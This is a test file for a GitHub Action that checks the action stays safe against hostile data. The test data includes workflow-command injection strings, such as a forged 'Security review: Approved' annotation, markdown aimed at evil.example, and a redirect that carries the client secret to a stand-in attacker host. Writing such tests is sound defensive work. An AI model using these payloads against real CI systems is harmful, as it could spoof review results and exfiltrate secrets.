import { describe, expect, it } from 'vitest'
import { startGitHubStub } from '../github/server.js'
import { worlds, yaml } from './fixture.js'
import { MASK, printed, runAction, type RunOptions, type RunResult } from './harness.js'

// Hostile data through the bundled action: names in reports.yaml, what the API answers, where it
// redirects, what it echoes back. Node's version changes none of this: one Node is enough.

const servers = worlds()
const INJECTION = 'x\n::stop-commands::pwned\n::error file=reports.yaml,title=Security review::Approved'
const PR = 7

/** A world with a GitHub stand-in and a pull-request run that comments, as a `pull_request` workflow does. */
async function setup(secret?: string) {
  const w = await servers.world()
  const client = secret ? w.sim.addClient({ tenantId: w.tenant.id, secret }) : w.client
  const gh = servers.track(await startGitHubStub())
  const githubToken = 'ghs_theGitHubTokenOfThisRun0123456789ab'
  gh.addToken(githubToken, 'write')
  const drifted = (name: string) => ({
    id: w.report({ parameters: { kind: 'usage_summary' } }).id,
    name,
    kind: 'usage_daily',
  })
  const pr = (config: string, extra: Partial<RunOptions> = {}) =>
    runAction({
      config,
      inputs: {
        'base-url': w.sim.url,
        'client-id': client.clientId,
        'client-secret': client.secret,
        'github-token': githubToken,
      },
      eventName: 'pull_request',
      event: {
        number: PR,
        pull_request: { number: PR, head: { sha: 'feedfacecafebeef0000000000000000deadbeef' } },
      },
      env: { GITHUB_API_URL: gh.url, GITHUB_REPOSITORY: 'acme/billing' },
      ...extra,
    })
  const comments = () => gh.comments('acme', 'billing', PR).map((c) => c.body)
  return { ...w, client, gh, drifted, pr, comments }
}

/** Lines the runner reads as a workflow command: `::` first once spaces are trimmed, `##[` anywhere. */
const commandLines = (r: RunResult) => r.stdout.split(/\r\n|\r|\n/).filter((l) => /^\s*::|##\[/.test(l))
const commandOf = (line: string) => /^\s*::([^\s:]+)/.exec(line)?.[1] ?? line

/** `@name` where GitHub would mention someone: not preceded by a word character (an email's `@` is not). */
const LIVE_MENTION = /(?<![A-Za-z0-9_\u200d])@[A-Za-z0-9]/
/** What reads the same once the invisible joiners and the bracket entity are undone. */
const readable = (md: string) => md.replace(/\u200d/g, '').replace(/&#93;/g, ']')

describe('hostile data in the log, the summary and the comment', () => {
  it('prints no workflow command but its own, whatever names, messages and paths carry', async () => {
    const { sim, drifted, pr, report } = await setup()
    const named = drifted(INJECTION)
    const failing = report({ parameters: { kind: 'usage_summary' } })
    sim.inject({
      method: 'GET',
      path: `/reports/${failing.id}`,
      status: 409,
      body: {
        error: { code: 'E_LOCKED', message: `locked\n::warning::a ##[add-mask]legacy ##[stop-commands]t` },
      },
    })
    sim.inject({
      method: 'GET',
      path: '/tenants/*',
      status: 403,
      body: { error: { code: 403, message: INJECTION } },
    })
    const r = await pr(yaml([named, { id: failing.id, name: '##[error]legacy', kind: 'usage_daily' }]))
    expect(r.code).toBe(1) // the failing report

    const commands = commandLines(r)
    expect(new Set(commands.map(commandOf))).toEqual(new Set(['add-mask', 'error', 'warning']))
    // One error for the failed report, one for the failed step; one warning for the listing.
    expect(commands.filter((l) => l.startsWith('::error'))).toHaveLength(2)
    expect(commands.filter((l) => l.startsWith('::warning'))).toHaveLength(1)
    // core escapes an annotation's message, and the runner reads `##[` only on a line that is no command.
    expect(commands.filter((l) => l.includes('##[') && !/^::(error|warning)[ :]/.test(l))).toEqual([])
    expect(r.annotations.map((a) => a.props.title)).not.toContain('Security review')
    // The name is in the log, for people to read, on one line.
    expect(r.stdout).toContain(
      `would-update x\\n::stop-commands::pwned\\n::error file=reports.yaml,title=Security review::Approved (${named.id})`,
    )
  })

  it('keeps a config path from starting a workflow command', async () => {
    const { report } = await setup()
    const r = await runAction({
      config: yaml([{ id: report().id }]),
      inputs: { config: '::stop-commands::pwned.yaml', mode: 'validate' },
    })
    expect(r.code, r.stdout).toBe(0)
    expect(commandLines(r)).toEqual([])
    expect(r.stdout).toContain('stop-commands::pwned.yaml: 1 report declared')
  })

  it('shows names, API messages and API ids in the summary and the comment as text: no mention, link or image', async () => {
    const { sim, drifted, pr, comments, tenant, report } = await setup()
    const markup =
      '@octocat ![pixel](https://evil.example/p.png) [login](https://evil.example) #1 www.evil.example'
    const failing = report({ parameters: { kind: 'usage_summary' } })
    sim.inject({
      method: 'GET',
      path: `/reports/${failing.id}`,
      status: 403,
      body: {
        error: {
          code: 403,
          message: `ask @acme/admins at https://evil.example ![x](https://evil.example/x.png)`,
        },
      },
    })
    // The listing of the tenant's reports answers ids no file declares, made of markup.
    const undeclared = ['@octocat', '[x](https://evil.example)', '![y](https://evil.example/y.png)']
    sim.inject({
      method: 'GET',
      path: `/tenants/${tenant.id}/reports`,
      status: 200,
      body: { items: undeclared },
    })
    const r = await pr(yaml([drifted(`Backup ${markup}`), { id: failing.id, kind: 'usage_daily' }]))
    expect(r.code).toBe(1)
    const bodies = comments()
    expect(bodies).toHaveLength(1)

    for (const md of [r.summary, bodies[0]!]) {
      expect(md).not.toMatch(LIVE_MENTION)
      expect(md).not.toMatch(/!\[[^[\]\n]*\]\(/) // an image
      expect(md).not.toMatch(/\]\(https:\/\/evil/)
      expect(md).not.toMatch(/https?:\/\/evil|www\.evil/)
      expect(md).not.toMatch(/(?<!&)#1\b/)
      // Still there for people to read.
      expect(readable(md)).toContain(`Backup ${markup}`)
      expect(readable(md)).toContain('ask @acme/admins at https://evil.example')
    }
  })

  it('redacts the client secret a refused redirect carries, lower-cased in the host name', async () => {
    const secret = 'Sx9Kq2Lm7Zp4Tr8Wv3Nb6'
    const { sim, drifted, pr, comments } = await setup(secret)
    const target = drifted('redirected')
    sim.inject({
      method: 'GET',
      path: `/reports/${target.id}`,
      redirectTo: `http://${secret}.evil.example/steal`,
    })
    const r = await pr(yaml([target]))
    expect(r.code).toBe(1)
    expect(JSON.parse(r.outputs.plan!)[0].error).toMatch(/redirect_refused/)
    expect(r.stdout).toContain(`${MASK}${secret.toLowerCase()}`)
    for (const text of printed(r, ...comments()))
      expect(text.toLowerCase()).not.toContain(secret.toLowerCase())
  })

  it('redacts a secret the API echoes back in any form: URL-encoded, base64, upper- or lower-cased', async () => {
    const secret = 'Sx9/Kq2+Lm7 Zp4=Tr8_Wv3'
    const { sim, client, drifted, pr, comments } = await setup(secret)
    const b64 = (s: string) => Buffer.from(s).toString('base64')
    const forms = {
      'url-encoded': encodeURIComponent(secret),
      'form-encoded': encodeURIComponent(secret).replace(/%20/g, '+'),
      base64: b64(secret),
      basic: b64(`${client.clientId}:${secret}`),
      // Characters 19 to 49 of this one are made of the secret's bits alone (its bytes 14 to 37).
      'base64 in a sentence': b64(`the secret is ${secret}, isn't it`),
      upper: secret.toUpperCase(),
      lower: secret.toLowerCase(),
    }
    const reports = Object.entries(forms).map(([form, echo]) => {
      const r = drifted(form)
      sim.inject({
        method: 'GET',
        path: `/reports/${r.id}`,
        status: 403,
        body: { error: { code: 403, message: `denied: ${echo}` } },
      })
      return r
    })
    const r = await pr(yaml(reports))
    expect(r.code).toBe(1)
    expect(r.outputs.failed).toBe(String(reports.length))
    for (const text of printed(r, ...comments())) {
      for (const [form, echo] of Object.entries(forms)) {
        expect(text, form).not.toContain(form.startsWith('base64 in') ? echo.slice(19, 49) : echo)
      }
      expect(text.toLowerCase()).not.toContain(secret.toLowerCase())
    }
    // Every echo was cut where the secret was, in the plan output as in the log.
    for (const e of JSON.parse(r.outputs.plan!) as { error: string }[])
      expect(e.error).toMatch(/→ 403: denied: .*\*\*\*/)
    // The runner masks exact strings: the derived forms were registered with it too (`%` escaped as `%25`).
    for (const echo of [forms.upper, forms.lower, forms['url-encoded'], forms.base64]) {
      expect(r.stdout).toContain(`${MASK}${echo.replace(/%/g, '%25')}`)
    }
  })

  it('never prints the password of a refused base-url, nor any userinfo', async () => {
    const { sim, report } = await setup()
    const password = 'Hunter2Pa55word'
    const port = new URL(sim.url).port
    const urls = [
      `http://admin:${password}@10.0.0.8`,
      `https://admin:${password}@eu2-cloud.acronis.com`,
      `http://admin:${password}@127.0.0.1:${port}`,
      `admin:${password}@eu2-cloud.acronis.com`,
      `ftp://admin:${encodeURIComponent(password)}@127.0.0.1:${port}`,
    ]
    const config = yaml([{ id: report().id }])
    const runs = await Promise.all(
      urls.map((url) =>
        runAction({
          config,
          inputs: { 'base-url': url, 'client-id': 'c', 'client-secret': 'not-this-one', mode: 'apply' },
        }),
      ),
    )
    runs.forEach((r, i) => {
      expect(r.code, urls[i]).toBe(1)
      expect(r.annotations.filter((a) => a.level === 'error')[0]!.message, urls[i]).toMatch(/^base-url/)
      for (const text of printed(r)) {
        expect(text, urls[i]).not.toContain(password)
        expect(text, urls[i]).not.toContain('admin:')
      }
    })
    expect(sim.requests).toHaveLength(0)
  })
})
